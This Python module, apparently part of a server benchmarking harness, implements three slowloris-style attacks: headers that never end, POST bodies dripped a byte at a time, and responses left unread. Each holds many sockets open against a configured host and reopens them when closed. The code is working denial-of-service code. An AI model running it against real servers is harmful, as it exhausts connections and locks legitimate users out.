"""Attacks by many sockets that hardly do anything."""

from __future__ import annotations

import contextlib
import socket
import threading
from collections import Counter
from collections.abc import Callable

from bench.targets import Plan

DRIP_EVERY_S = 0.5
HALF_HEAD = b"POST /v1/orders HTTP/1.1\r\nHost: bench\r\nX-Slow: "
HALF_BODY = b"POST /v1/orders HTTP/1.1\r\nHost: bench\r\nContent-Length: 100000\r\n\r\n{"
UNREAD = b"GET /openapi.json HTTP/1.1\r\nHost: bench\r\n\r\n"


def slow_heads(plan: Plan, over: threading.Event, ready: Callable[[], None]) -> Counter[str]:
    """Headers that never end."""
    return _crowd(plan, over, ready, begin=HALF_HEAD, drip=b"x")


def slow_bodies(plan: Plan, over: threading.Event, ready: Callable[[], None]) -> Counter[str]:
    """Bodies that never end."""
    return _crowd(plan, over, ready, begin=HALF_BODY, drip=b"x")


def slow_readers(plan: Plan, over: threading.Event, ready: Callable[[], None]) -> Counter[str]:
    """Long answers that nobody reads."""
    return _crowd(plan, over, ready, begin=UNREAD, drip=b"")


def _crowd(plan: Plan, over: threading.Event, ready: Callable[[], None], *, begin: bytes, drip: bytes) -> Counter[str]:
    """So many sockets that send `begin` and then drip; each comes again when it is closed."""

    def opened() -> socket.socket:
        connection = socket.socket()
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        connection.settimeout(5)
        connection.connect((plan["host"], plan["port"]))
        connection.sendall(begin)
        return connection

    held = [opened() for _ in range(plan["sockets"])]
    came = Counter({"sockets": len(held)})
    ready()
    while not over.wait(DRIP_EVERY_S):
        for at, connection in enumerate(held):
            try:
                connection.sendall(drip)
            except OSError:
                with contextlib.suppress(OSError):
                    held[at] = opened()
                    came["opened again"] += 1
    return came
